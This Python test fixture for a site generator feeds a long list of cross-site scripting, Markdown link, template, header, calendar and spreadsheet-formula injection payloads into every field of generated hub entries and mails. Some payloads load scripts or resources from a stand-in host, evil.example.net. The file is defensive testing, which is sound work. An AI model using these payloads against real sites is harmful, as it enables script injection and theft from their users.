"""Texts that try to run a script at readers, and hubs that have each of them in every field.

A payload that runs calls `alert` or sets `window.__hit`, or asks for a file of another host.
"""

from __future__ import annotations

import base64
from collections.abc import Sequence
from pathlib import Path

from hubgen.project import Project
from hubgen.types import TYPES
from tests.every_field import DATA, Texts, as_yaml, folders_of, make_entry
from tests.hubs import CONFIG, make_hub

RUN = "window.__hit=1"
HOST = "//evil.example.net/x"

PAYLOADS = (
    # elements
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={HOST}></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script \t>{RUN}</script \t>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN} autoplay>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.__hit=1></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    f"<form action=javascript:{RUN}><input type=submit id=s></form>",
    f"<isindex action=javascript:{RUN} type=submit value=x>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<base href={HOST}>",
    f"<link rel=stylesheet href={HOST}>",
    f"<link rel=import href={HOST}>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<style>@import '{HOST}';*{{background:url({HOST})}}</style>",
    f"<p style=\"background:url({HOST})\">x</p>",
    f"<table background={HOST}><tr><td>x</table>",
    f"<img src={HOST}>",
    f"![x](https:{HOST})",
    "<template><script>alert(1)</script></template>",
    f"<portal src={HOST}></portal>",
    f"<x onclick={RUN} id=x tabindex=1 onfocusin={RUN}>x</x>",
    f"<a onmouseover={RUN} href=#x>x</a>",
    # SVG, MathML and what parsers see anew
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">",
    "<math href=javascript:alert(1)>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<textarea><p title=\"</textarea><img src=x onerror={RUN}>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<plaintext><img src=x onerror={RUN}>",
    # the ends of what surrounds a text
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><img src=x onerror={RUN}>",
    f"</textarea></noscript></template><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    f"` onmouseover={RUN} autofocus onfocus={RUN}",
    f'" style="background:url({HOST})" x="',
    f'"}}</script><script>{RUN}</script>',
    f'","@type":"x","url":"javascript:{RUN}","x":"',
    f"\\u003c/script>\\u003cscript>{RUN}\\u003c/script>",
    f'\\"}};{RUN};//',
    f"\u2028{RUN}\u2029//",
    f"<!--><script>{RUN}</script>-->",
    f"<!--<script>--><script>{RUN}</script>",
    f"--!><img src=x onerror={RUN}>",
    f"<!-- x -- ><img src=x onerror={RUN}>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"<?xml-stylesheet href='javascript:{RUN}'?><?php x ?>",
    f"<![if x]><img src=x onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e",
    f"%3Cimg src=x onerror={RUN}%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u200bscript>{RUN}</\u200bscript>",
    f"<ſcript>{RUN}</ſcript>",
    # Markdown
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript&colon;{RUN})",
    f"[x](java&#x0A;script:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&#58;{RUN})",
    f"[x](%6aavascript:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](\\javascript:{RUN})",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x]({HOST})",
    "[x](\\\\evil.example.net/x)",
    "[x](blob:https://evil.example.net/x)",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:alert(1))",
    f"[x][r]\n\n[r]: javascript:{RUN} \"x\"",
    f"[x](https://example.org/ \"x\" onmouseover={RUN})",
    f"[x](https://example.org/\"onmouseover={RUN}//)",
    f"![x](x\"onerror={RUN}//)",
    f"![x\"onerror=\"{RUN}](x)",
    f"![x](javascript:{RUN})",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    f"<javascript:{RUN}>",
    f"<https://example.org/\"onclick={RUN}>",
    f"<a@example.org\"onclick={RUN}>",
    f"[a]{{onclick={RUN}}}",
    f"## x {{onclick=\"{RUN}\" style=\"background:url({HOST})\"}}",
    f"[x](https://example.org/){{onclick={RUN} href=javascript:{RUN} target=_top}}",
    f"![x](x.png){{onerror={RUN} src={HOST} srcset={HOST}}}",
    f"Texto.[^<img src=x onerror={RUN}>]\n\n[^<img src=x onerror={RUN}>]: Nota <script>{RUN}</script>.",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| [x](javascript:{RUN}) | <script>{RUN}</script> |",
    f"```<script>\n</code></pre><script>{RUN}</script>\n```",
    f"```\"><script>{RUN}</script>\nx\n```",
    f"``` {{ .html onclick={RUN} }}\nx\n```",
    f"!!! note\" onclick={RUN} \"<script>{RUN}</script>\"\n    <script>{RUN}</script>",
    f"Término <b onclick={RUN}>\n: <script>{RUN}</script>",
    f"<div markdown=1 onclick={RUN}>\n\n[x](javascript:{RUN})\n\n</div>",
    f"<a href=\"javascript:{RUN}\">x</a>",
    f"<a href=\"&#1;java&#9;script:{RUN}\">x</a>",
    f"<a href=\"https://example.org/\" target=\"_blank\" ping=\"{HOST}\">x</a>",
    "<div id=body><a id=x name=__hit href=clobber:x></a></div>",
    f"klzzwxh:0000<img src=x onerror={RUN}>",
    f"wzxhzdk:0 <script>{RUN}</script>",
    # templates and other programs
    "{{ 7*7 }}{% raw %}{{ cycler.__init__.__globals__ }}",
    f"${{{RUN}}}#{{{RUN}}}<%= {RUN} %>",
    f"x\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh",
    f"x\nEND:VCARD\nBEGIN:VCARD\nURL:javascript:{RUN}",
    "=HYPERLINK(\"https://evil.example.net/\";\"x\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)  # fmt: skip

AROUND = """\
{0}

Uno **{1}** dos `{1}` tres {{{1}}}.

## {1}

- {1}
- > {1}

| a | b |
|---|---|
| {1} | [{1}]({1}) |

[x](<{1}>) ![{1}]({1}) [x]({1} "{1}") [x][r] <{1}>

[r]: {1} "{1}"

Nota.[^1]

[^1]: {1}

!!! note "{1}"
    {1}

Término
: {1}

<div markdown="1" title="{1}">{1}</div>

<p title='{1}' class={1} id="{1}">{1}</p>
"""
"""A body that has a payload as a block of its own and, on one line, in each place of Markdown."""


def body_of(payload: str) -> str:
    """The payload in each place of a Markdown text."""
    one_line = " ".join(payload.split()).replace("|", "&#124;")
    return AROUND.replace("{{", "{").replace("}}", "}").replace("{0}", payload).replace("{1}", one_line)


SETTINGS = (
    CONFIG.replace("languages: [es, en, pt]", "languages: [es]")
    .replace("title@en: SME Centre\n", "")
    .replace("title@pt: Centro PME\n", "")
    + "jsonld: full\nfeeds: {text: full, items: 1000}\nbudget: {page: 900k}\nfacets:\n"
    + "".join(f"  {kind.name}: []\n" for kind in TYPES)
)


def box_of(payloads: Sequence[str]) -> bytes:
    """A mail for each payload, eight in a thread: in its subject, its sender, its text and the name of a file."""
    return b"".join(_mail(number, payload) for number, payload in enumerate(payloads))


def _mail(number: int, payload: str) -> bytes:
    word = f"=?utf-8?b?{base64.b64encode(payload.encode('utf-8', 'replace')).decode()}?="
    kind = ("plain", "html")[number % 2]
    text = base64.encodebytes(payload.encode("utf-8", "replace")).decode()
    return (
        f"From a@example.org Mon Nov 10 14:00:00 2025\nFrom: {word} <a{number}@example.org>\nSubject: {word}\n"
        f"Message-ID: <m{number}@example.org>\nIn-Reply-To: <m{number - number % 8}@example.org>\n"
        f"Date: Mon, 10 Nov 2025 14:{number % 60:02d}:00 +0000\n"
        f"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/{kind}; charset=utf-8\n"
        f"Content-Transfer-Encoding: base64\n\n{text}\n--b\nContent-Type: image/png\n"
        f'Content-Disposition: attachment; filename="{word}"\n\nx\n--b--\n\n'
    ).encode()


def hub_of_payloads(folder: Path, *, raw_html: bool, each: int = 0) -> Project:
    """A guide for each payload, which stands in all its texts and in each place of its body; and other entries.

    Args:
        each: how many entries of every other type, their texts taken from the payloads one after the other; with as
            many as there are payloads, each entry has one payload alone.
    """
    files: dict[str, str | bytes] = {"content/topics/y0.yaml": "title: Otro\nsummary: Otros.\n"}
    files["content/topics/vender.yaml"] = "title: Vender\nsummary: Clientes.\n"
    if each:
        cells = ('"' + one.replace('"', '""') + '"' for one in PAYLOADS if one.isprintable())
        files |= {name: text + "\n".join(cells) + "\n" for name, text in DATA.items()}
    in_turn = Texts(list(PAYLOADS))
    for kind in TYPES:
        entries = []
        for number, payload in enumerate(PAYLOADS if kind.name == "guide" else PAYLOADS[:each], 1):
            is_alone = kind.name == "guide" or each == len(PAYLOADS)
            entry = make_entry(kind.name, f"y{number}", Texts([payload]) if is_alone else in_turn)
            if kind.name == "guide":
                entry.values["body"] = body_of(payload)
            entries.append(entry)
        if kind.folder_file:
            files |= folders_of(kind, entries)
            files |= {f"content/{kind.folder}/y1/a.mbox": box_of(PAYLOADS[: 4 * each])} if each else {}
        elif entries:
            files[f"content/{kind.folder}/lote.yaml"] = as_yaml(entries)
    return make_hub(folder, files, f"{SETTINGS}raw_html: {'yes' if raw_html else 'no'}\n")
